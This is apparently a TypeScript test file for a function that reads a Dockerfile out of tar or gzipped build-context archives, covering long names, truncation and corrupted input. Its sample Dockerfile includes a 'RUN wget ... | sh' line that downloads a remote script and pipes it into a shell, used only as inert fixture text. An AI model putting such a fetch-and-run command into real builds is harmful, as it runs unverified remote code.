import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { assert, nat, property, uint8Array } from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { readContextFile } from './context-file.js';

const directory = mkdtempSync(join(tmpdir(), 'keelwatch-context-'));
const text = 'FROM base\nRUN wget -qO- http://192.0.2.1/x | sh\n';
const long = `${'deep/'.repeat(30)}Dockerfile`;
execFileSync('mkdir', ['-p', join(directory, 'deep/'.repeat(30)), join(directory, 'sub')]);
writeFileSync(join(directory, 'Dockerfile'), text);
writeFileSync(join(directory, 'sub/Dockerfile'), 'FROM other\n');
writeFileSync(join(directory, long), 'FROM deep\n');
writeFileSync(join(directory, 'big'), Buffer.alloc(20_000, 'x'));
afterAll(() => rmSync(directory, { recursive: true }));

const tar = (...args: string[]) => execFileSync('tar', ['-C', directory, '-cf', '-', ...args]);

describe('the Dockerfile in a context', () => {
  it.each([
    ['alone', tar('Dockerfile'), 'Dockerfile', text],
    ['with a path', tar('./sub', './Dockerfile'), 'Dockerfile', text],
    ['of another name', tar('Dockerfile', 'sub'), './sub/Dockerfile', 'FROM other\n'],
    ['with a long name', tar('--format=gnu', long), long, 'FROM deep\n'],
    ['with a long name, as POSIX has it', tar('--format=posix', long), long, 'FROM deep\n'],
    ['packed', gzipSync(tar('Dockerfile')), 'Dockerfile', text],
  ])('%s', (_, archive, name, expected) => {
    expect(readContextFile(archive, name)).toEqual({
      file: { text: expected, isTruncated: false },
      isWhole: true,
    });
  });

  it('is the last of several, and may be replaced by what comes', () => {
    writeFileSync(join(directory, 'again'), 'FROM again\n');
    const twice = tar('Dockerfile', '--transform=s/again/Dockerfile/', 'again');
    expect(readContextFile(twice, 'Dockerfile').file?.text).toBe('FROM again\n');
    expect(readContextFile(twice.subarray(0, 1024), 'Dockerfile')).toEqual({
      file: { text, isTruncated: false },
      isWhole: false,
    });
  });

  it('is truncated where the beginning ends, and absent where it does not reach', () => {
    const archive = tar('Dockerfile');
    const { file } = readContextFile(archive.subarray(0, 530), 'Dockerfile');
    expect(file).toEqual({ text: text.slice(0, 18), isTruncated: true });
    expect(readContextFile(tar('big', 'Dockerfile').subarray(0, 4000), 'Dockerfile').file).toBe(
      undefined,
    );
    const packed = gzipSync(tar('big', 'Dockerfile'));
    expect(readContextFile(packed, 'Dockerfile').file?.text).toBe(text);
    expect(readContextFile(packed.subarray(0, 40), 'Dockerfile').isWhole).toBe(false);
  });

  it('is sought in whatever comes', () => {
    const archive = tar('Dockerfile', 'sub', 'big');
    assert(
      property(uint8Array({ maxLength: 600 }), nat(archive.length), (bytes, at) => {
        const broken = Buffer.from(archive);
        broken.set(bytes.slice(0, broken.length - at), at);
        expect(() => readContextFile(broken, 'Dockerfile')).not.toThrow();
        expect(() => readContextFile(Buffer.from(bytes), 'x')).not.toThrow();
      }),
    );
  });
});
